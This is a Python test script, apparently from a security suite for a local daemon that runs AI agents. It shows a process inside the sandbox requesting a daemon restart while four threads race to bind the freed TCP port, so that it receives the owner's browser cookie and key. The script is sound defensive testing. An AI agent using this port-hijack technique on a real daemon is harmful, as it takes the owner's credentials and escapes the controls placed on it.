"""Asks the daemon to start again, and takes its TCP port while it does.

Tries: POST /api/restart, which a process inside may ask for, with four threads that bind the port.
Would prove: an agent ends the daemon with a request, and then sits at the address to which the
owner's browser sends its cookie and key.
Saw (before the fix): "listen at 127.0.0.1 port …: Address already in use", and the daemon was
gone.
"""
import socket
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from wire import Api

CONTROL = "by_hand"


def attack(world):
    from world import broken, wait_until
    session = world.attacker()
    found = []
    world.starts_inside(session, __file__, world.socket, *world.place(), world.work)
    if world.control:  # a daemon that releases its port during a restart
        world.daemon.terminate()
    wait_until((world.work / "done").exists, 30, "the attack is over")
    if world.control:
        return broken((world.work / "done.txt").read_text())
    try:
        wait_until(world.ready, 10, "the daemon serves again")
    except TimeoutError:
        found.append("the daemon does not serve any more")
    return found + broken((world.work / "done.txt").read_text())


def bind_again_and_again(host, port, got, end):
    while not got and time.monotonic() < end:
        for address in (host, "0.0.0.0"):
            listener = socket.socket()
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            try:
                listener.bind((address, port))
                listener.listen()
                got.append((address, listener))
                return
            except OSError:
                listener.close()


def inside(path, host, port, work):
    got, end = [], time.monotonic() + 4
    threads = [threading.Thread(target=bind_again_and_again, args=(host, int(port), got, end))
               for _ in range(4)]
    for thread in threads:
        thread.start()
    while not got and time.monotonic() < end:
        try:
            Api(path, timeout=3).post("/api/restart")
        except (OSError, ValueError):
            pass
        time.sleep(0.05)
    for thread in threads:
        thread.join()
    Path(f"{work}/done.txt").write_text(
        "".join(f"BROKE the daemon's port was taken at {address}\n" for address, _ in got))
    Path(f"{work}/done").touch()
    time.sleep(5)


if __name__ == "__main__":
    inside(*sys.argv[1:])
